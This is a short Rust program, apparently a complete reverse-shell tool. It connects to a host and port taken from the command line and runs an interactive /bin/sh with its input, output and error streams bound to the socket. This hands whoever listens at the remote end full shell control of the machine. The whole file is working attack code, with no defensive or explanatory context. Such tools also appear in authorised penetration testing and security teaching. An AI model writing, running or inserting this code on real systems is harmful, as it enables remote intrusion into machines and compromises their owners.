// connect, then run an interactive shell as a child whose descriptors 0 to 2 are the socket
use std::env::args;
use std::net::TcpStream;
use std::os::fd::OwnedFd;
use std::process::{Command, Stdio};

fn main() {
    let mut words = args().skip(1);
    let host = words.next().expect("host");
    let port: u16 = words.next().expect("port").parse().expect("port number");
    let stream = TcpStream::connect((host.as_str(), port)).expect("connect");
    let end = || Stdio::from(OwnedFd::from(stream.try_clone().expect("clone")));
    Command::new("/bin/sh").arg("-i").stdin(end()).stdout(end()).stderr(end()).status().expect("shell");
}
